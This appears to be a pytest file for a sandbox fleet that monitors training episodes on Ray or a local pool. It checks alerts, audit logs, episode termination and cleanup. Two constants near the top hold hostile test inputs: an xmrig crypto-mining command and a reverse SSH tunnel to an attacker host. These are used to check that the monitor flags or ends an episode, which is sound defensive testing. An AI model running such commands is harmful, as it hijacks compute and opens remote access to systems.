"""corral.fleet on a real local Ray cluster (started here) and on the local process pool:
the same API tests for both."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from corral.audit import verify
from corral.events import Event
from corral.fleet import EpisodeEnded, EpisodeLost, Fleet, FleetError

HERE = Path(__file__).parent
SRC = HERE.parent.parent / "src"
MINE = "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u wallet"
TUNNEL = "ssh -R 9000:localhost:22 attacker@203.0.113.9"
BACKENDS = ["ray", "local"]


@pytest.fixture(scope="module", autouse=True)
def importable_here():
    """Episode functions of this module are pickled by reference: the slots (Ray workers,
    pool workers) import this module as the trainer's would be on a real cluster."""
    old = os.environ.get("PYTHONPATH")
    os.environ["PYTHONPATH"] = os.pathsep.join(p for p in (str(SRC), str(HERE), old) if p)
    yield
    if old is None:
        os.environ.pop("PYTHONPATH", None)
    else:
        os.environ["PYTHONPATH"] = old


@pytest.fixture(scope="module")
def ray_cluster(importable_here):
    ray = pytest.importorskip("ray", reason="ray is not installed (pip install 'corral[fleet]')")
    import tempfile

    from corral.trapsignals import keep_fatal_handlers

    tmp = tempfile.mkdtemp(prefix="corral-ray-test-")
    # Ray's failure handlers would take wasmtime's traps in this (pytest's) process
    with keep_fatal_handlers() as saved:
        ray.init(
            num_cpus=2,
            include_dashboard=False,
            log_to_driver=False,
            object_store_memory=100 * 2**20,
            _temp_dir=tmp,
            configure_logging=False,
        )
    yield ray.get_runtime_context().gcs_address
    ray.shutdown()
    saved.restore()  # ray.shutdown resets them to the default


@pytest.fixture(scope="module", params=BACKENDS)
def fleet(request, tmp_path_factory, importable_here):
    audit_dir = tmp_path_factory.mktemp(f"audit-{request.param}")
    if request.param == "ray":
        request.getfixturevalue("ray_cluster")
        kw = {}
    else:
        kw = {"local": True}
    f = Fleet(
        audit_dir=audit_dir,
        fleet_rules=[{"name": "fleet.spread", "match": "mining-*", "episodes": 2,
                      "window_s": 600}],
        max_per_node=6,
        **kw,
    )
    f.audit_dir = audit_dir  # for the tests
    yield f
    f.close()
    f.close()  # idempotent


def collect(fleet: Fleet) -> tuple[list, object]:
    seen: list = []
    return seen, fleet.subscribe(seen.append)


def test_sandbox_api_steps_and_tags(fleet: Fleet) -> None:
    seen, unsub = collect(fleet)
    tags = {"run": f"api-{fleet.backend}", "episode": 7}
    sb = fleet.sandbox(tags=tags)
    try:
        assert sb.alive() and sb.verdict == "clean"
        r = sb.run("echo hi; x=1")
        assert (r.stdout, r.exit_code, r.step, r.alerts) == ("hi\n", 0, 1, [])
        assert sb.run("echo $x").stdout == "1\n"  # state persists across steps
        assert sb.python("print(6*7)").stdout == "42\n"
        assert sb.js("console.log(1+1)").stdout == "2\n"
        assert sb.files.write("/workspace/f.txt", "data") == 4
        assert sb.files.read("/workspace/f.txt") == "data"
        assert sb.exec(["cat", "f.txt"]).stdout == "data"
        assert sb.step == 7
        with pytest.raises(AttributeError):
            _ = sb.files.chmod
    finally:
        sb.close()
        sb.close()  # idempotent
    assert not sb.alive()
    with pytest.raises(FleetError, match="closed"):
        sb.run("true")
    fleet.sync()
    unsub()
    mine = [e for e in seen if e.session == sb.session]
    assert mine, "the trainer received the sandbox's events"
    assert all(isinstance(e, Event) and e.tags == tags for e in mine)
    assert {e.step for e in mine} >= {0, 1, 2, 3, 4, 5, 6, 7}
    assert [e.seq for e in mine] == list(range(1, len(mine) + 1)), "in order, none lost"


def _episode(sb, i):
    out = [sb.run(f"echo {i}").stdout.strip()]
    if i % 3 == 1:
        r = sb.run(MINE if i % 2 else TUNNEL)
        out.append(sorted({a.rule for a in r.alerts}))
        try:
            sb.run("echo still here")
            out.append("continued")
        except EpisodeEnded as e:
            out.append(f"ended: {e.rule}")
    out.append(sb.run("echo done").stdout.strip())
    return out


def test_map_alerts_audit_verdicts_and_fleet_rule(fleet: Fleet) -> None:
    run = f"map-{fleet.backend}"
    ended = []

    def on_alert(alert):
        ended.append((alert.tags["episode"], alert.tags["step"], alert.rule))
        return "end"

    results = fleet.map(
        _episode, range(6), tags=lambda i: {"run": run, "episode": i}, on_alert=on_alert,
        progress=False,
    )
    # episodes 1 and 4 turned bad: ended within the step, the rest finished
    for i, res in enumerate(results):
        if i in (1, 4):
            assert isinstance(res, EpisodeEnded), res
            assert res.tags["episode"] == i and res.rule
            assert "was ended (rule " in str(res)
        else:
            assert res == [str(i), "done"]
    assert {e for e, _, _ in ended} == {1, 4}
    alerts = fleet.alerts(run=run)
    assert {a.tags["episode"] for a in alerts if a.source == "sandbox"} == {1, 4}
    for a in alerts:
        if a.source == "sandbox":
            assert a.tags["run"] == run and a.tags["step"] == 2 and a.step == 2
            assert a.action == "end"
            assert a.events, "the alert keeps the events of its step as evidence"
    rows = fleet.verdicts(run=run)
    assert {(r["episode"], r["step"], r["action"]) for r in rows} == {(1, 2, "end"), (4, 2, "end")}
    assert all(r["rule"] for r in rows)
    # the audit log of the run verifies and holds every episode's events
    path = fleet.audit_path(run)
    assert path is not None and path.name == f"{run}.sqlite"
    assert verify(path).ok
    from corral.audit import iter_entries

    kinds = {e.kind for e in iter_entries(path)}
    assert {"event", "alert", "decision"} <= kinds
    types = {e.body.get("type") for e in iter_entries(path) if e.kind == "event"}
    assert {"sandbox.created", "monitor.alert", "episode.ended", "sandbox.closed"} <= types
    episodes = {
        (e.body.get("tags") or {}).get("episode") for e in iter_entries(path) if e.kind == "event"
    }
    assert episodes == set(range(6))


def test_fleet_rule_many_episodes_at_once(fleet: Fleet) -> None:
    run = f"spread-{fleet.backend}"

    def mine(sb, i):
        return sb.run(MINE).exit_code

    assert fleet.map(mine, range(3), tags=lambda i: {"run": run, "episode": i},
                     progress=False) == [126, 126, 126]
    spread = [a for a in fleet.alerts(run=run) if a.source == "fleet"]
    assert spread, "the same rule in 2+ episodes within the window is a fleet alert"
    assert spread[0].rule == "fleet.spread" and spread[0].tags["episodes"] >= 2
    assert "a behaviour the policy may be learning" in spread[0].summary
    assert spread[0].tags["run"] == run


def test_on_alert_end_mark_continue(fleet: Fleet) -> None:
    run = f"hook-{fleet.backend}"
    sb = fleet.sandbox(tags={"run": run, "episode": 1}, on_alert=lambda a: "mark")
    try:
        r = sb.run(TUNNEL)
        assert r.alerts and all(a.action == "mark" for a in r.alerts)
        assert sb.verdict == "flagged"
        assert sb.run("echo ok").stdout == "ok\n"  # marked, not ended
    finally:
        sb.close()
    sb = fleet.sandbox(tags={"run": run, "episode": 2}, on_alert=lambda a: "end")
    try:
        r = sb.run(TUNNEL)
        assert r.alerts and r.alerts[0].tags == {"run": run, "episode": 2, "step": 1}
        assert sb.verdict == "ended" and not sb.alive()
        with pytest.raises(EpisodeEnded, match=r"episode run=hook-\w+, episode=2 was ended \(rule"):
            sb.run("echo no")
    finally:
        sb.close()
    rows = fleet.verdicts(run=run)
    assert [(r["episode"], r["action"]) for r in rows if r["episode"] == 2] == [(2, "end")]
    assert {r["action"] for r in rows if r["episode"] == 1} == {"mark"}
    pd = pytest.importorskip("pandas")
    df = rows.to_pandas()
    assert isinstance(df, pd.DataFrame) and {"run", "episode", "step", "rule", "action",
                                             "time"} <= set(df.columns)


def test_on_alert_that_raises_ends_the_episode(fleet: Fleet) -> None:
    def broken(alert):
        raise RuntimeError("bug in the trainer's hook")

    with fleet.sandbox(tags={"run": f"broken-{fleet.backend}"}, on_alert=broken) as sb:
        sb.run(TUNNEL)
        assert sb.verdict == "ended"
        with pytest.raises(EpisodeEnded):
            sb.run("true")


def test_killed_process_fails_only_its_episode(fleet: Fleet) -> None:
    a = fleet.sandbox(tags={"run": "kill", "episode": "a"})
    b = fleet.sandbox(tags={"run": "kill", "episode": "b"})
    try:
        assert a.run("echo a").ok and b.run("echo b").ok
        os.kill(a.pid, signal.SIGKILL)
        t = time.monotonic()
        with pytest.raises(EpisodeLost, match=r"episode=a.*(died|lost)"):
            a.run("echo again")
        assert time.monotonic() - t < 60, "a lost sandbox gives an error, not a hang"
        assert not a.alive()
        assert b.run("echo b2").stdout == "b2\n"
        # killed in the middle of a step: that call fails, it does not hang
        c = fleet.sandbox(tags={"run": "kill", "episode": "c"})
        try:
            c.run("true")
            out: list = []
            t = threading.Thread(target=lambda: out.append(_try(c.run, "sleep 20")))
            t.start()
            time.sleep(1.0)
            os.kill(c.pid, signal.SIGKILL)
            t.join(60)
            assert not t.is_alive(), "a step whose process died must not hang"
            assert isinstance(out[0], EpisodeLost), out
            assert "episode=c" in str(out[0])
        finally:
            c.close()
        assert b.run("echo b3").stdout == "b3\n"
    finally:
        a.close()
        b.close()

    def suicidal(sb, i):
        sb.run("echo start")
        if i == 1:
            os.kill(os.getpid(), signal.SIGKILL)  # the process holding the sandbox dies
        return sb.run(f"echo {i}").stdout.strip()

    results = fleet.map(suicidal, range(3), tags=lambda i: {"run": "kill2", "episode": i},
                        progress=False)
    assert results[0] == "0" and results[2] == "2"
    assert isinstance(results[1], EpisodeLost), results[1]


def test_ttl_idle_and_reap(fleet: Fleet) -> None:
    keep = [fleet.sandbox(tags={"run": "reap-me", "episode": i}) for i in range(2)]
    idle = fleet.sandbox(tags={"run": "life", "episode": "idle"}, idle_s=3.0, ttl_s=600)
    idle_first = _try(idle.run, "echo y")  # idle time counts from creation, then each call
    sb = fleet.sandbox(tags={"run": "life", "episode": "ttl"}, ttl_s=1.0)
    try:
        _try(sb.run, "echo x")  # on a loaded machine the TTL may pass during this first step
        assert not isinstance(idle_first, Exception) or "fleet.idle" in str(idle_first)
        deadline = time.monotonic() + 30
        while (sb.alive() or idle.alive()) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not sb.alive() and not idle.alive()
        with pytest.raises(EpisodeEnded, match=r"fleet\.ttl"):
            sb.run("true")
        with pytest.raises(EpisodeEnded, match=r"fleet\.idle"):
            idle.run("true")
        assert fleet.reap(run="reap-me") == 2
        assert not any(k.alive() for k in keep)
        with pytest.raises(FleetError):
            keep[0].run("true")
        with pytest.raises(FleetError, match="at least one tag"):
            fleet.reap()
    finally:
        for s in (sb, idle, *keep):
            s.close()


def test_events_iterator_and_async(fleet: Fleet) -> None:
    run = f"stream-{fleet.backend}"
    it = fleet.events(run=run)
    got: list = []

    def reader():
        for ev in it:
            got.append(ev)
            if ev.type == "sandbox.closed":
                return

    t = threading.Thread(target=reader, daemon=True)
    t.start()

    async def go():
        asb = await fleet.asandbox(tags={"run": run, "episode": 0})
        async with asb:
            r = await asb.run("echo async")
            assert r.stdout == "async\n"
            assert await asb.files.write("/workspace/z", "1") == 1

    asyncio.run(go())
    t.join(30)
    assert got and all(e.tags["run"] == run for e in got)
    assert got[-1].type == "sandbox.closed"


def test_bad_configuration_is_refused(fleet: Fleet) -> None:
    with pytest.raises(TypeError, match="'episode' must be a str"):
        fleet.sandbox(tags={"episode": [1]})
    with pytest.raises(TypeError):
        fleet.map(_episode, range(2), tags=lambda i: {"run": object()})
    res = fleet.map(_episode, [threading.Lock(), 0], progress=False)  # a lock cannot travel
    assert isinstance(res[0], Exception) and res[1] == ["0", "done"]
    assert fleet.stats()["live"] == 0
    with pytest.raises(FleetError, match="positive number"):
        fleet.sandbox(ttl_s=-1)
    with pytest.raises(FleetError, match="callable"):
        fleet.sandbox(on_alert="end")  # type: ignore[arg-type]
    with pytest.raises(FleetError, match="unknown Fleet option"):
        Fleet(local=True, workdir="/tmp")
    with pytest.raises(FleetError, match=r"fleet_rules\[0\]: episodes"):
        Fleet(local=True, fleet_rules=[{"episodes": 1}])
    with pytest.raises(FleetError, match="max_per_node"):
        Fleet(local=True, max_per_node=0)


def test_sigkilled_trainer_leaves_nothing_after_ttl(fleet: Fleet, request) -> None:
    ttl = 30.0  # long enough for a loaded machine to start the sandboxes
    args = [sys.executable, str(HERE / "trainer_child.py"), fleet.backend, str(ttl)]
    if fleet.backend == "ray":
        args.append(request.getfixturevalue("ray_cluster"))
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    child = subprocess.Popen(args, stdout=subprocess.PIPE, text=True, env=env)
    try:
        line = child.stdout.readline()
        assert line, "the trainer did not start its sandboxes"
        info = json.loads(line)
        pids = info["pids"]
        assert len(info["slots"]) == 2 and all(_running(p) for p in info["slots"])
    finally:
        child.kill()  # SIGKILL: no cleanup runs in the trainer
        child.wait()
    deadline = time.monotonic() + ttl + 60
    while any(_running(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.5)
    left = [p for p in pids if _running(p)]
    assert not left, f"still running after the TTL: {left}"


def _try(fn, *args):
    try:
        return fn(*args)
    except Exception as e:
        return e


def _running(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_caps_hold_and_abandoned_handles_come_back(fleet: Fleet) -> None:
    import gc

    cap = sum(fleet.stats()["caps"].values())
    held = [fleet.sandbox(tags={"run": "cap", "episode": i}) for i in range(cap)]
    try:
        with pytest.raises(FleetError, match="no room for a sandbox within"):
            fleet.sandbox(tags={"run": "cap", "episode": "extra"}, timeout=0.5)
        dropped = held.pop()
        del dropped  # never closed: the handle's finalizer gives its place back
        gc.collect()
        extra = fleet.sandbox(tags={"run": "cap", "episode": "extra"}, timeout=60)
        assert extra.run("echo fits").stdout == "fits\n"
        held.append(extra)
    finally:
        for sb in held:
            sb.close()
    assert fleet.stats()["live"] == 0
